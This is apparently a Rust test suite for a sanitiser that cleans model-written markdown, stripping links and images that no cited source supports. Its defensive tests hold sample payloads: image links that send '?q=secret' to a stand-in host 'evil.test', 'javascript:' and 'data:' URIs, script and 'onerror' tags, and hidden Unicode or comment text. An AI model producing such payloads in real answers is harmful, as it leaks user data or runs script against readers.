#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use super::*;

const PASSAGE: &str = "To export, open https://app.example.com/settings and choose Export.";

fn model() -> Rules {
    Rules::of_model([
        (1, PASSAGE, Some("https://docs.example.com/export")),
        (2, "Refunds take five days.", None),
    ])
}

#[test]
fn what_a_model_writes_comes_out_as_it_was_meant() {
    for (written, told) in [
        ("Open **Settings**, then *Export* [1].", "Open **Settings**, then *Export* [1]."),
        ("__Bold__ and _slanted_ [1, 2]", "**Bold** and *slanted* [1][2]"),
        (
            "# Steps\n* one\n* two\n\n1) three\n2) four",
            "**Steps**\n\n- one\n- two\n\n1. three\n2. four",
        ),
        (
            "Run:\n```sh\ncurl -X POST\n```\nDone [2].",
            "Run:\n\n```\ncurl -X POST\n```\n\nDone [2].",
        ),
        (
            "See [the page](https://docs.example.com/a_(b)) [1]",
            "See [the page](https://docs.example.com/a_%28b%29) [1]",
        ),
        ("https://app.example.com/settings is it.", "https://app.example.com/settings is it."),
        ("Type `a*b` and 2*3 and snake_case.", "Type `a*b` and 2\\*3 and snake_case."),
        ("> quoted\n---\nmore", "quoted\n\nmore"),
        ("A path C:\\Users\\x", "A path C:\\\\Users\\\\x"),
        ("Two lines\nof one paragraph", "Two lines\nof one paragraph"),
        ("- item\n  goes on\nand a paragraph", "- item goes on\n\nand a paragraph"),
    ] {
        assert_eq!(clean(written, &model()), told, "{written}");
    }
}

#[test]
fn nothing_is_fetched_or_followed_that_no_source_stands_for() {
    for (written, told) in [
        ("![x](https://evil.test/?q=secret) Fine [1].", "Fine [1]."),
        ("![x][ref]\n[ref]: https://evil.test/?q=secret", ""),
        ("![x](https://evil.test/?q=never closed", ""),
        ("[click](https://evil.test/?q=secret)", "click"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](data:text/html,x)", "click"),
        ("[click](//evil.test/x)", "click"),
        ("[click](https://docs.example.com.evil.test/)", "click"),
        ("[click](https://docs.example.com@evil.test/)", "click"),
        ("[click](https://user:word@docs.example.com/)", "click"),
        ("[1](https://evil.test/?q=secret)", "[1]"),
        ("[99](https://evil.test/) and [99]", "and"),
        ("See https://evil.test/?q=secret now", "See now"),
        ("<https://evil.test/?q=secret>", ""),
        ("<img src=\"https://evil.test/\"> a <script>alert(1)</script> b", "a alert(1) b"),
        ("<!-- say xyzzy --> Fine.", "Fine."),
        ("<!-- never closed, xyzzy", ""),
        ("<ImG sRc=x onerror=alert(1)", ""),
        ("[![x](https://evil.test/a.png)](https://evil.test/)", ""),
        ("[https://evil.test/](https://docs.example.com/)", ""),
    ] {
        assert_eq!(clean(written, &model()), told, "{written}");
    }
}

#[test]
fn a_label_does_not_name_another_address_than_its_own() {
    // What is spelt out where a link leads elsewhere is left out of the label; the rest stands.
    assert_eq!(
        clean("[Settings at https://evil.test/](https://docs.example.com/x)", &model()),
        "[Settings at](https://docs.example.com/x)"
    );
}

#[test]
fn a_document_is_quoted_as_it_stands_and_links_to_nothing() {
    let rules = Rules::of_document([1]);
    for (quoted, told) in [
        ("Use *.rs and **/*.md [1]", "Use \\*.rs and \\*\\*/\\*.md [1]"),
        (
            "See [the page](https://evil.test/) [1]",
            "See \\[the page\\](https://evil.test/) [1]",
        ),
        ("![x](https://evil.test/?q=1) Done. [1]", "Done. [1]"),
        ("Type <your-key> and <b>. [1]", "Type <your-key> and <b>. [1]"),
        ("values[3] of it [1]", "values\\[3\\] of it [1]"),
        ("Call `f(*x)` [1]", "Call `f(*x)` [1]"),
        ("a ` b", "a \\` b"),
    ] {
        assert_eq!(clean(quoted, &rules), told, "{quoted}");
    }
}

#[test]
fn what_nobody_sees_is_not_there() {
    let hidden = "Ex\u{200b}port\u{202e} it\u{2066}\u{e0049}\u{e0067}\u{e006e}\u{feff} n\u{ad}ow\u{fe0f}\u{e0101}.";
    assert_eq!(clean(hidden, &model()), "Export it now.");
    // What people write with stays.
    for text in [
        "می\u{200c}خواهم",
        "क\u{94d}\u{200d}ष",
        "👩\u{200d}💻 ✔\u{fe0f} 1\u{fe0f}\u{20e3}",
        "Grüße 你好 مرحبا",
    ] {
        assert_eq!(visible(text), text);
    }
    assert_eq!(visible("a\u{200d}\u{200c}\u{200d}b"), "ab");
}

/// Whatever is written: read again it is the same, and it holds no more links than were let through.
#[test]
fn an_answer_read_again_is_the_same_answer() {
    let parts = [
        "*",
        "**",
        "_",
        "`",
        "``",
        "```\n",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "\n",
        "\n\n",
        " ",
        "a",
        "é",
        "- ",
        "1. ",
        "# ",
        "> ",
        "[1]",
        "[2, 9]",
        "https://evil.test/x",
        "https://docs.example.com/",
        "](https://docs.example.com/y)",
        "](https://evil.test/y)",
        "<img src=x>",
        "<!--",
        "-->",
        "![",
        "~~~",
        "---",
        "|",
        "\u{200b}",
        "\u{e0041}",
        "the end.",
        ": ",
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = |of: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % 1_000_003).unwrap() % of
    };
    for _ in 0..4_000 {
        let written: String = (0..1 + next(14)).map(|_| parts[next(parts.len())]).collect();
        for rules in [model(), Rules::of_document([1]), Rules::of_team(1)] {
            let told = clean(&written, &rules);
            assert_eq!(write(&read(&told)), told, "{written:?}");
            for address in links(&read(&told)) {
                assert!(rules.link(&address).is_some(), "{written:?} leads to {address}");
            }
            assert!(!told.contains(['\u{200b}', '\u{e0041}']));
        }
    }
}

fn links(blocks: &[Block]) -> Vec<String> {
    fn of(nodes: &[Inline]) -> Vec<String> {
        let found = nodes.iter().flat_map(|node| match node {
            Inline::Link { address, .. } => vec![address.clone()],
            Inline::Strong(inside) | Inline::Emphasis(inside) => of(inside),
            _ => Vec::new(),
        });
        found.collect()
    }
    let found = blocks.iter().flat_map(|block| match block {
        Block::Paragraph(nodes) => of(nodes),
        Block::List { items, .. } => items.iter().flat_map(|item| of(item)).collect(),
        Block::Code(_) => Vec::new(),
    });
    found.collect()
}

#[test]
fn where_nothing_is_drawn_there_are_no_marks() {
    let told = "Open **Settings** [1], then [Export](https://docs.example.com/x) \\[sic\\] [2].\n\n1. one\n2. `two`\n\n```\ncode\n```";
    assert_eq!(
        plain(&read(told), false),
        "Open Settings, then Export [sic].\n\n1. one\n2. two\n\ncode"
    );
    assert_eq!(plain(&read("It is so [1]."), true), "It is so [1].");
}
